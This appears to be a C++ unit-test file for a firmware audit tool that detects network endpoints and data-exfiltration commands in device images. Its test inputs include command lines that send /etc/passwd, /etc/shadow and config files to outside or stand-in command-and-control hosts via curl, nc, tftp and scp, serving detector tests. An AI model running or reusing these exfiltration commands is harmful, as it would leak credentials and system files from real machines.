// Unit tests of the endpoint extractor, the special ranges, the exfiltration reader and the
// CB-NET checks over an inventory (with decoys: documentation and private addresses,
// version numbers, file names, comments, the allow list).
#include "audit/endpoints.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "clearbox/audit/check.h"
#include "test_image.h"

namespace clearbox::audit {
namespace {

using internal::DescribeExfiltration;
using internal::ExtractEndpoints;
using internal::ExtractMode;
using internal::IsSpecialHost;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;

std::vector<std::string> Hosts(std::string_view text, ExtractMode mode = ExtractMode::kText) {
  std::vector<std::string> out;
  for (const auto& h : ExtractEndpoints(text, mode)) out.push_back(h.host);
  return out;
}

TEST(ExtractEndpoints, UrlsAddressesAndNames) {
  EXPECT_THAT(Hosts("wget http://Update.Vendor.com:8080/fw.bin"), ElementsAre("update.vendor.com"));
  EXPECT_THAT(Hosts("ftp://user:pw@files.vendor.cn/a"), ElementsAre("files.vendor.cn"));
  EXPECT_THAT(Hosts("url=https://[2606:4700::1111]:443/x"), ElementsAre("2606:4700::1111"));
  EXPECT_THAT(Hosts("server 8.8.8.8 iburst"), ElementsAre("8.8.8.8"));
  EXPECT_THAT(Hosts("nameserver 2001:4860:4860::8888"), ElementsAre("2001:4860:4860::8888"));
  EXPECT_THAT(Hosts("ntp=pool.ntp.org;"), ElementsAre("pool.ntp.org"));
  EXPECT_THAT(Hosts("scp /etc/x root@backup.vendor.com:/srv"), ElementsAre("backup.vendor.com"));
  auto hits = ExtractEndpoints("abc 1.1.1.1", ExtractMode::kText);
  ASSERT_THAT(hits, SizeIs(1));
  EXPECT_EQ(hits[0].offset, 4u);
  EXPECT_TRUE(hits[0].is_address);
}

TEST(ExtractEndpoints, DecoysAreNotEndpoints) {
  EXPECT_THAT(Hosts("version 1.2.3.4"), IsEmpty());
  EXPECT_THAT(Hosts("VERSION=10.20.30.40"), IsEmpty());
  EXPECT_THAT(Hosts("fw_ver: 1.0.0.1"), IsEmpty());
  EXPECT_THAT(Hosts("v1.2.3.4 1.2.3.4-rc1 1.3.6.1.4.1.2021 01.02.03.04 300.1.1.1"), IsEmpty());
  EXPECT_THAT(Hosts("/usr/lib/libfoo.so.1 config.sh main.py build.mk x.in"), IsEmpty());
  EXPECT_THAT(Hosts("mail support@vendor.com"), IsEmpty());
  EXPECT_THAT(Hosts("com.vendor.app org.freedesktop.DBus"), IsEmpty());
  EXPECT_THAT(Hosts("std::string dead::beef 12:30:45 00:11:22:33:44:55"), IsEmpty());
  EXPECT_THAT(Hosts("user.id req.body this.name"), IsEmpty());
  EXPECT_THAT(Hosts("$SERVER/upload http://$HOST/x"), IsEmpty());
  EXPECT_THAT(Hosts("Vendor.Com", ExtractMode::kBinaryString), IsEmpty());
  // libcrypto's strings: an OID with four arcs, an ASN.1 field name with a ccTLD-like suffix.
  EXPECT_THAT(Hosts("X25519:1.3.101.110", ExtractMode::kBinaryString), IsEmpty());
  EXPECT_THAT(Hosts("value.ir", ExtractMode::kBinaryString), IsEmpty());
  // ...which a URL or a third label still makes a host.
  EXPECT_THAT(Hosts("http://value.ir/x", ExtractMode::kBinaryString), ElementsAre("value.ir"));
  EXPECT_THAT(Hosts("cc.evil.ir", ExtractMode::kBinaryString), ElementsAre("cc.evil.ir"));
  EXPECT_THAT(Hosts("198.50.1.9", ExtractMode::kBinaryString), ElementsAre("198.50.1.9"));
}

TEST(IsProseString, MessagesAreProseCommandsAndBareAddressesAreNot) {
  using internal::IsProseString;
  EXPECT_TRUE(IsProseString("Please report as described in <http://www.debian.org/Bugs/>"));
  EXPECT_TRUE(IsProseString("<http://www.debian.org/Bugs/>."));
  EXPECT_TRUE(IsProseString("Dropbear SSH client v%s https://matt.ucc.asn.au/dropbear/"));
  EXPECT_FALSE(IsProseString("http://api.telemetry.cn/v1"));
  EXPECT_FALSE(IsProseString("cd /tmp && /usr/bin/wget -q http://c2.evil.ir/x"));
  EXPECT_FALSE(IsProseString("ping -c 1 8.8.8.8"));
}

TEST(IsSpecialHost, RangesAndNames) {
  for (const char* h : {"192.0.2.5", "198.51.100.1", "203.0.113.200", "10.1.2.3", "172.16.0.1",
                        "172.31.255.255", "192.168.1.1", "127.0.0.1", "169.254.1.1", "224.0.0.251",
                        "0.0.0.0", "255.255.255.255", "100.64.0.1", "2001:db8::1", "::1", "fe80::1",
                        "fd00::5", "ff02::1", "::ffff:192.168.1.1", "example.com", "www.example.org",
                        "router.test", "x.invalid", "a.localhost", "printer.local", "localhost"}) {
    EXPECT_TRUE(IsSpecialHost(h)) << h;
  }
  for (const char* h : {"8.8.8.8", "172.32.0.1", "100.128.0.1", "2606:4700::1111",
                        "update.vendor.com", "examples.com"}) {
    EXPECT_FALSE(IsSpecialHost(h)) << h;
  }
}

TEST(DescribeExfiltration, FormsThatSendData) {
  EXPECT_THAT(DescribeExfiltration("curl -d @/proc/net/arp http://x.com"), HasSubstr("curl"));
  EXPECT_THAT(DescribeExfiltration("curl -F 'f=@/etc/passwd' http://x.com"), HasSubstr("uploads"));
  EXPECT_THAT(DescribeExfiltration("curl --data \"$(cat /etc/shadow)\" x.com"), HasSubstr("posts"));
  EXPECT_THAT(DescribeExfiltration("curl -T /tmp/log ftp://1.1.1.1/"), HasSubstr("uploads"));
  EXPECT_THAT(DescribeExfiltration("wget --post-file=/etc/config/system http://x.com"),
              HasSubstr("wget"));
  EXPECT_THAT(DescribeExfiltration("nc 1.1.1.1 9 < /etc/shadow"), HasSubstr("nc"));
  EXPECT_THAT(DescribeExfiltration("cat /proc/cpuinfo | nc 1.1.1.1 9"), HasSubstr("piped"));
  EXPECT_THAT(DescribeExfiltration("tftp -p -l /etc/passwd 1.1.1.1"), HasSubstr("tftp"));
  EXPECT_THAT(DescribeExfiltration("ftpput host remote local"), HasSubstr("ftpput"));
  EXPECT_THAT(DescribeExfiltration("scp /etc/shadow root@h.com:/srv"), HasSubstr("scp"));
}

TEST(DescribeExfiltration, FormsThatDoNot) {
  EXPECT_EQ(DescribeExfiltration("curl -s http://x.com/fw.bin -o /tmp/fw.bin"), "");
  EXPECT_EQ(DescribeExfiltration("wget http://x.com/a"), "");
  EXPECT_EQ(DescribeExfiltration("curl -d mode=1 http://x.com"), "");
  EXPECT_EQ(DescribeExfiltration("nc -l -p 23 < /etc/motd"), "");
  EXPECT_EQ(DescribeExfiltration("tftp -g -r fw.bin 1.1.1.1"), "");
  EXPECT_EQ(DescribeExfiltration("# curl -F f=@/etc/passwd http://x.com"), "");
}

inventory::Inventory Inv(std::vector<std::tuple<std::string, inventory::FileKind, std::string>> fs) {
  inventory::Inventory inv;
  inv.image = "fw.bin";
  for (auto& [path, kind, text] : fs) inv.files.push_back(test::TextFile(path, text, kind));
  return inv;
}

TEST(NetChecks, ExfiltrationIsHighPlainEndpointsAreInfo) {
  using K = inventory::FileKind;
  auto inv = Inv({{"/etc/crontabs/root", K::kConfig,
                   "# 0 * * * * curl -F f=@/etc/passwd http://old.c2.com/\n"
                   "0 * * * * curl -F f=@/etc/passwd http://c2.vendor.com/\n"},
                  {"/usr/bin/r.sh", K::kScript,
                   "#!/bin/sh\nHOST=up.vendor.cn\nping 10.0.0.1\n"
                   "tftp -p -l /etc/config/network $HOST\n"
                   "echo version 1.2.3.4 docs 192.0.2.1 www.example.com\n"},
                  {"/usr/share/doc/x/README", K::kText, "see http://gnu.org/licenses\n"}});
  AuditOptions opts;
  opts.only = {"CB-NET-001", "CB-NET-002"};
  auto r = RunAudit(inv, opts);
  ASSERT_TRUE(r.ok());
  std::vector<std::string> seen;
  for (const Finding& f : r->findings) seen.push_back(f.check_id + " " + f.message);
  ASSERT_THAT(r->findings, SizeIs(4)) << ::testing::PrintToString(seen);
  EXPECT_EQ(r->findings[0].severity, Severity::kHigh);
  EXPECT_EQ(r->findings[1].severity, Severity::kHigh);
  bool tftp = false;
  for (const Finding& f : r->findings) {
    if (f.check_id != "CB-NET-002" || f.message.find("up.vendor.cn") == std::string::npos) continue;
    tftp = true;
    ASSERT_THAT(f.evidence, SizeIs(2));  // the command and the assignment
    EXPECT_EQ(f.evidence[1].excerpt, "HOST=up.vendor.cn");
    EXPECT_EQ(f.evidence[0].offset, std::string("#!/bin/sh\nHOST=up.vendor.cn\nping 10.0.0.1\n").size());
  }
  EXPECT_TRUE(tftp);
  std::set<std::string> observed;
  for (const Observation& o : r->observations) {
    if (o.kind == ObservationKind::kEndpoint) observed.insert(o.name);
  }
  EXPECT_THAT(observed, ElementsAre("c2.vendor.com", "up.vendor.cn"));
}

TEST(NetChecks, TheImagesKernelVersionIsNotAnAddress) {
  // The Broadcom ADSL rootfs of the corpus: Linux 2.6.8.1 in /lib/modules, "KERNELVER=2.6.8.1"
  // in /etc/profile; a real address beside it still counts.
  using K = inventory::FileKind;
  auto inv = Inv({{"/etc/profile", K::kScript, "KERNELVER=2.6.8.1\nping 2.6.8.2\n"}});
  inventory::FileRecord modules;
  modules.node.path = "/lib/modules/2.6.8.1";
  modules.node.type = unpack::NodeType::kDirectory;
  inv.files.push_back(modules);
  AuditOptions opts;
  opts.only = {"CB-NET-001"};
  auto r = RunAudit(inv, opts);
  ASSERT_TRUE(r.ok());
  std::vector<std::string> seen;
  for (const Finding& f : r->findings) seen.push_back(f.message);
  EXPECT_THAT(seen, ElementsAre(::testing::HasSubstr("endpoint 2.6.8.2")));
}

TEST(NetChecks, AllowedEndpointIsNeitherFindingNorObservation) {
  using K = inventory::FileKind;
  auto inv = Inv({{"/etc/ntp.conf", K::kConfig, "server time.vendor.com\nserver 8.8.8.8\n"}});
  AuditOptions opts;
  auto allow = AllowList::Parse("endpoint *.vendor.com\n", "allow.txt");
  ASSERT_TRUE(allow.ok());
  opts.allow = *allow;
  opts.only = {"CB-NET-001"};
  auto r = RunAudit(inv, opts);
  ASSERT_TRUE(r.ok());
  ASSERT_THAT(r->findings, SizeIs(1));
  EXPECT_THAT(r->findings[0].message, HasSubstr("8.8.8.8"));
  ASSERT_THAT(r->observations, SizeIs(1));
}

// CB-NET-001's content scanner over one program, fed in windows [begin, end) of `bytes`.
std::vector<Finding> ScanProgram(const std::string& path, const std::string& bytes,
                                 std::vector<std::pair<size_t, size_t>> windows,
                                 AuditReport& report) {
  auto scanner = FindCheck("CB-NET-001")->make_scanner({});
  inventory::FileRecord f = test::TextFile(path, "", inventory::FileKind::kElf);
  ByteView all = AsBytes(bytes);
  for (auto [begin, end] : windows) scanner->OnContent(f, begin, all.subspan(begin, end - begin));
  inventory::Inventory inv;
  AuditOptions opts;
  AuditContext ctx(inv, opts, report);
  std::vector<Finding> out;
  scanner->Finish(ctx, out);
  return out;
}

TEST(BinaryScanner, StringsOfProgramsWindowsOnce) {
  std::string bytes("\x7f" "ELF", 4);
  bytes += std::string(60, '\0') + "libc.so.6" + '\0' + "http://api.telemetry.cn/v1" + '\0' +
           "version 2.6.32.1" + '\0' + "192.168.0.1" + '\0' + std::string(40, '\x01');
  AuditReport report;
  std::vector<Finding> out = ScanProgram("/usr/bin/agent", bytes, {{0, 100}, {50, bytes.size()}}, report);
  ASSERT_THAT(out, SizeIs(1));
  EXPECT_THAT(out[0].message, HasSubstr("api.telemetry.cn"));
  EXPECT_THAT(out[0].message, ::testing::Not(HasSubstr("times")));
  EXPECT_EQ(out[0].evidence[0].offset, bytes.find("http://"));
  EXPECT_EQ(out[0].evidence[0].excerpt, "http://api.telemetry.cn/v1");
  ASSERT_THAT(report.observations, SizeIs(1));
  EXPECT_EQ(report.observations[0].name, "api.telemetry.cn");
}

TEST(BinaryScanner, EndpointInAMessageIsListedButNotObserved) {
  std::string bytes = std::string("\x7f" "ELF") + '\0' +
                      "Dropbear server v%s https://matt.ucc.asn.au/dropbear/dropbear.html" + '\0';
  AuditReport report;
  std::vector<Finding> out = ScanProgram("/usr/sbin/dropbear", bytes, {{0, bytes.size()}}, report);
  ASSERT_THAT(out, SizeIs(1));
  EXPECT_THAT(out[0].message, HasSubstr("(in a message text)"));
  EXPECT_THAT(report.observations, IsEmpty());
}

}  // namespace
}  // namespace clearbox::audit
